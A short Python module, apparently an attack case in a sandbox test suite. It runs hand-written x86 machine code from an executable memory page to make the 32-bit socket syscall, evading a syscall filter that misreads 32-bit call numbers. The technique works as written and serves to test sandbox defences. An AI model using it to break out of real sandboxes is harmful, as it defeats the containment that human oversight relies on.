"""Open a network socket by the calls of 32-bit programs, whose numbers a careless filter takes for others."""

import ctypes
import mmap

from sandbox.weapons import World

# mov eax, 359 (socket); mov ebx, 2 (AF_INET); mov ecx, 2 (SOCK_DGRAM); xor edx, edx; int 0x80 -- rbx is kept
CODE = bytes.fromhex("53b867010000bb02000000b90200000031d2cd805bc3")


def attack(world: World) -> object:
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
    if result < 0:
        raise OSError(-result, "socket")
    return "socket"
